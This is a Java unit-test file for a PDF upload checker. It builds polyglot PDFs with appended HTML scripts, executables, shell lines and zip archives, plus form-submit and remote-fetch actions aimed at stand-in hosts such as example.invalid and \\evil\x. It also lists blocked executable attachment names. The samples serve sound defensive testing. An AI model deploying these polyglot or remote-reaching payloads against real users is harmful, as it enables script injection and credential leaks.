package org.mingzhang.app.platform.files;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.HexFormat;
import java.util.List;
import java.util.zip.DeflaterOutputStream;
import org.junit.jupiter.api.Test;
import org.mingzhang.app.platform.files.FileRefused.Reason;
import org.mingzhang.domain.event.FileType;

/** What follows a PDF and what it reaches for. */
class PdfContentTest extends JudgedFiles {
    private static final String HEAD = "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n";
    private static final String BODY = """
            1 0 obj
            <</Type/Catalog/Pages 2 0 R>>
            endobj
            2 0 obj
            <</Type/Pages/Kids[]/Count 0>>
            endobj
            """;
    private static final String TABLE = "xref\n0 3\n0000000000 65535 f \n0000000015 00000 n \n0000000064 00000 n \n";
    private static final String END = "trailer\n<</Size 3/Root 1 0 R>>\nstartxref\n113\n%%EOF\n";
    private static final String PDF = HEAD + BODY + TABLE + END;

    /** What a signature adds: an object, a table of its own, a trailer. */
    private static final String UPDATE = "9 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/Contents<"
            + "3082".repeat(2_000) + ">/ByteRange[0 10 20 30]/M(D:20260305)>>\nendobj\n"
            + "xref\n0 1\n0000000000 65535 f \n9 1\n0000000400 00000 n \n"
            + "trailer\n<</Size 10/Root 1 0 R/Prev 113>>\nstartxref\n700\n%%EOF\n";

    private static final String PROGRAM =
            "MZ\u0090\0\u0003\0\0\0This program cannot be run in DOS mode" + "\0".repeat(3_000);

    private void kept(String why, String pdf) throws IOException {
        kept(FileType.PDF, why, pdf.getBytes(ISO_8859_1));
    }

    private void refused(Reason reason, String why, String pdf) throws IOException {
        refused(reason, why, pdf.getBytes(ISO_8859_1));
    }

    /** With more objects. */
    private static String with(String objects) {
        return HEAD + BODY + objects + TABLE + END;
    }

    private static String stream(String dictionary, String content) {
        return "7 0 obj\n<<" + dictionary + ">>\nstream\n" + content + "\nendstream\nendobj\n";
    }

    @Test
    void ordinaryFilesAreKept() throws IOException {
        kept("as it is", PDF);
        kept("signed: updated", PDF + UPDATE);
        kept("signed twice", PDF + UPDATE + "\n" + UPDATE);
        kept("an update without a line of its own", PDF.strip() + UPDATE);
        for (String tail : List.of("\r\n", "\n\n\n", "\0".repeat(600), "\u001a", " \n% made by a printer\n", "\r")) {
            kept("a tail of blanks", PDF + tail);
        }
        kept("no line behind the end", PDF.strip());
        kept(
                "for the web: the first page, its table and its end stand first",
                HEAD + "4 0 obj\n<</Linearized 1/L 900/H[500 100]/O 6/E 700/N 1/T 800>>\nendobj\n" + TABLE
                        + "trailer\n<</Size 9/Root 1 0 R/Prev 800>>\nstartxref\n0\n%%EOF\n" + BODY
                        + stream("/Length 20/S 30", "\u0001\u0002\0\u0003<html><script>MZ") + TABLE + END);
        kept(
                "tables in streams",
                HEAD + BODY + stream("/Type/XRef/Size 3/Length 4", "\0\u0001\u0002\u0003")
                        + "startxref\n113\n%%EOF\n" + stream("/Type/XRef/Size 3/Length 4", "\0\u0001\u0002\u0003")
                        + "startxref\n300\n%%EOF");
    }

    @Test
    void anEndWithinAStreamOrAStringIsNone() throws IOException {
        String inner = PDF.replace("endobj", "endobj\n" + stream("/Length 1", "x") + "endobj");
        kept("a PDF within, by its length", with(stream("/Length " + inner.length(), inner)));
        kept(
                "a PDF within, by the length of another object",
                with("8 0 obj\n" + inner.length() + "\nendobj\n" + stream("/Length 8 0 R", inner)));
        kept("a PDF within whose length nobody tells", with(stream("/X 1", PDF)));
        kept("the same with streams of its own", with(stream("/X 1", inner)));
        kept("words of a page", with(stream("/Length 9", "%%EOF <a>")) + UPDATE);
        kept("a title", with("7 0 obj\n<</Title(\\(%%EOF\\) <html> (MZ))>>\nendobj\n"));
        refused(
                Reason.FILE_DAMAGED,
                "the only end stands in a string",
                HEAD + BODY + TABLE + "trailer\n<</Size 3/Root 1 0 R/X(\n%%EOF\n)>>\nstartxref\n113\n");
        refused(Reason.FILE_DAMAGED, "the only end stands in a comment", HEAD + BODY + TABLE + "% %%EOF\n");
    }

    /** Attacks: one file that is a PDF to the office and a page, a program or an archive to somebody else. */
    @Test
    void nothingElseStandsBehindOrWithinAPdf() throws IOException {
        String page = "<html><script>alert(1)</script></html>\n";
        for (String end : List.of("", "\n%%EOF\n", "startxref\n113\n%%EOF\n", UPDATE)) {
            refused(Reason.FILE_TYPE_NOT_ALLOWED, "a page" + end, PDF + page + end);
            refused(Reason.FILE_TYPE_NOT_ALLOWED, "a program" + end, PDF + PROGRAM + end);
            refused(Reason.FILE_TYPE_NOT_ALLOWED, "a shell's script" + end, PDF + "#!/bin/sh\nrm -r x\n" + end);
            refused(
                    Reason.FILE_TYPE_NOT_ALLOWED,
                    "an archive" + end,
                    PDF + new String(FileContentTest.zip("word/document.xml"), ISO_8859_1) + end);
            refused(Reason.FILE_DAMAGED, "words" + end, PDF + "Hello, this is no PDF any more\n" + end);
            refused(Reason.FILE_TYPE_NOT_ALLOWED, "a page in a comment" + end, PDF + "%" + page + end);
            refused(Reason.FILE_DAMAGED, "a long comment" + end, PDF + "%" + "a".repeat(300) + "\n" + end);
            refused(Reason.FILE_DAMAGED, "a string of nobody's" + end, PDF + "(" + page + ")" + end);
        }
        refused(Reason.FILE_TYPE_NOT_ALLOWED, "before the only end", PDF.replace("%%EOF", page + "%%EOF"));
        refused(Reason.FILE_TYPE_NOT_ALLOWED, "between objects", with(page));
        refused(Reason.FILE_TYPE_NOT_ALLOWED, "a program between objects", with(PROGRAM));
        refused(Reason.FILE_TYPE_NOT_ALLOWED, "in an object", with("7 0 obj\n" + page + "endobj\n"));
        refused(Reason.FILE_TYPE_NOT_ALLOWED, "in a comment", with("% " + page));
        refused(Reason.FILE_TYPE_NOT_ALLOWED, "in an update's object", PDF + UPDATE.replace("/Type/Sig", page));
        refused(Reason.FILE_DAMAGED, "an update without its end", PDF + "9 0 obj\n<<>>\nendobj\n");
    }

    @Test
    void anArchiveThatEndsWithTheFileIsRefusedWhereverItBegins() throws IOException {
        String archive = new String(FileContentTest.zip("a.txt"), ISO_8859_1);
        String tail = "\nendstream\nendobj\nxref\n0 1\ntrailer\n<</Size 9/Root 1 0 R>>\nstartxref\n1\n%%EOF\n";
        String commented = archive.substring(0, archive.length() - 2) + (char) tail.length() + "\0" + tail;
        refused(
                Reason.FILE_TYPE_NOT_ALLOWED,
                "the rest of the PDF is the archive's comment",
                PDF + "7 0 obj\n<</Length " + archive.length() + ">>\nstream\n" + commented);
        kept(
                "an archive that is attached and ends before",
                with(stream("/Type/EmbeddedFile/Length " + archive.length(), archive)));
    }

    @Test
    void nothingStandsInFrontOfAPdf() throws IOException {
        for (String front : List.of("<html><script>", "junk<script>", "MZ\u0090\0", "GIF89a", "\n", "#!/bin/sh\n")) {
            refused(Reason.FILE_TYPE_NOT_ALLOWED, front, front + PDF);
        }
    }

    /** Attacks: a file that sends what is filled in, or reaches for another machine when it is opened. */
    @Test
    void whatSendsOrFetchesIsRefused() throws IOException {
        for (String action : List.of(
                "/S/SubmitForm/F(http://example.invalid)",
                "/S/ImportData/F(x.fdf)",
                "/S/GoToR/F(\\\\\\\\example.invalid\\\\x)",
                "/S/GoToR/F(//example.invalid/x.pdf)",
                "/S/GoToR/F<</Type/Filespec/UF(https://example.invalid/x.pdf)>>",
                "/S/GoToE/D[0/Fit]/F <5c5c6576696c5c78>",
                "/S/GoToE/F%a comment\n(\\134\\134evil\\134x)",
                "/S/Go#54oR/F 8 0 R",
                "/S/GoToE/F(\u00fe\u00ff"
                        + new String("\\\\evil\\x".getBytes(UTF_16BE), ISO_8859_1).replace("\\", "\\\\") + ")",
                "/Subtype/RichMedia/RichMediaContent 9 0 R",
                "/Ref<</F(\\\\\\\\evil\\\\x)>>")) {
            String elsewhere = action.contains("8 0 R") ? "(\\\\\\\\evil\\\\x)" : "null";
            String objects = "7 0 obj\n<</OpenAction<<" + action + ">>>>\nendobj\n8 0 obj " + elsewhere + " endobj\n";
            refused(Reason.FILE_HAS_SCRIPTS, action, with(objects));
            refused(
                    Reason.FILE_HAS_SCRIPTS,
                    "compressed: " + action,
                    with(stream(
                            "/Type/ObjStm/N 2/First 8/Filter/FlateDecode",
                            deflated("7 0 8 9 <<" + action + ">> " + elsewhere))));
        }
        kept("links of the web", with("7 0 obj<</S/URI/URI(https://example.invalid/)>>endobj\n"));
        kept("another file beside it", with("7 0 obj<</S/GoToR/F(附件二.pdf)/D[0/Fit]>>endobj\n"));
        kept("a file of a disk", with("7 0 obj<</Type/Filespec/F(C:\\\\tmp\\\\a.xml)/EF<</F 8 0 R>>>>endobj\n"));
        kept(
                "a title that is a link, beside another file",
                with("7 0 obj<</S/GoToR/F(b.pdf)>>endobj\n8 0 obj<</Title(http://example.invalid)>>endobj\n"));
    }

    private static String deflated(String content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflater = new DeflaterOutputStream(out)) {
            deflater.write(content.getBytes(ISO_8859_1));
        }
        return out.toString(ISO_8859_1);
    }

    private static String attached(String name) {
        return with("7 0 obj<</Names<</EmbeddedFiles<</Names[(a) 8 0 R]>>>>>>endobj\n" + "8 0 obj<</Type/Filespec/F "
                + name + "/EF<</F 9 0 R>>>>endobj\n");
    }

    @Test
    void attachmentsAreKeptUnlessTheyAreProgramsByTheirNames() throws IOException {
        for (String name :
                List.of("invoice.xml", "发票.ofd", "factur-x.xml", "data.json", "合同.pdf", "附件.zip", "a.exe.txt")) {
            kept(name, attached("(" + new String(name.getBytes(UTF_8), ISO_8859_1) + ")"));
        }
        for (String name : List.of(
                "a.exe",
                "a.EXE",
                "a.bat",
                "a.cmd",
                "a.js",
                "a.vbs",
                "a.ps1",
                "a.scr",
                "a.msi",
                "a.lnk",
                "a.hta",
                "a.jar",
                "a.com",
                "发票.pdf.exe",
                "a.exe. .",
                "a.docm",
                "C:\\\\x\\\\a.exe")) {
            refused(Reason.FILE_HAS_SCRIPTS, name, attached("(" + new String(name.getBytes(UTF_8), ISO_8859_1) + ")"));
            refused(
                    Reason.FILE_HAS_SCRIPTS,
                    "sixteen bits: " + name,
                    attached("<FEFF" + HexFormat.of().formatHex(name.getBytes(UTF_16BE)) + ">"));
        }
        refused(
                Reason.FILE_HAS_SCRIPTS,
                "by the name under which it is listed",
                with("7 0 obj<</Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>>>endobj\n"));
        refused(
                Reason.FILE_HAS_SCRIPTS,
                "by a name that stands elsewhere",
                attached("10 0 R").replace(TABLE, "10 0 obj(a.exe)endobj\n" + TABLE));
        kept(
                "who made a file with attachments is no attachment",
                attached("(a.xml)").replace(TABLE, "10 0 obj<</Producer(printer.exe)>>endobj\n" + TABLE));
    }

    /** Pictures and fonts are bytes as they come: what looks like a name among them is none. */
    @Test
    void bytesOfStreamsAreNoNamesButObjectsAmongThemAre() throws IOException {
        String objects = "7 0 obj<</S/GoToR/F(b.pdf)/EF 1>>endobj\n";
        String bytes = "\u0000/F(\\\\\\\\evil\\\\x) %/A(//x) <5c5c6576696c5c78> (a.exe) ('//x'\u00ff";
        kept("bytes", with(objects + stream("/Subtype/Image/Length " + bytes.length(), bytes)));
        String hidden = "8 0 obj<</S/GoToR/F(\\\\\\\\evil\\\\x)>>endobj";
        refused(
                Reason.FILE_HAS_SCRIPTS,
                "a table may lead into a stream",
                with(stream("/Subtype/Image/Length " + hidden.length(), hidden)));
    }

    /** Files of printers that lost the end of a title are opened by readers all the same. */
    @Test
    void aStringWithoutItsEndDoesNotSwallowTheRest() throws IOException {
        kept("a broken title", PDF + "9 0 obj\n<</Title(\u00fe\u00ff110 0 obj\n<<>>\nendobj\n" + UPDATE);
        refused(
                Reason.FILE_TYPE_NOT_ALLOWED,
                "nor hide it",
                PDF + "9 0 obj\n(endobj\n<html><script>)endobj\n" + UPDATE);
    }

    /** Attacks: brackets that never close, each looked for to the end of the file. */
    @Test
    void stringsThatNeverEndAreNotReadForEver() throws IOException {
        kept("in one object", with("7 0 obj[" + "(".repeat(3_000_000) + "]endobj\n"));
        refused(Reason.FILE_DAMAGED, "in many", with("7 0 obj[(".repeat(300_000) + "endobj\n"));
    }
}
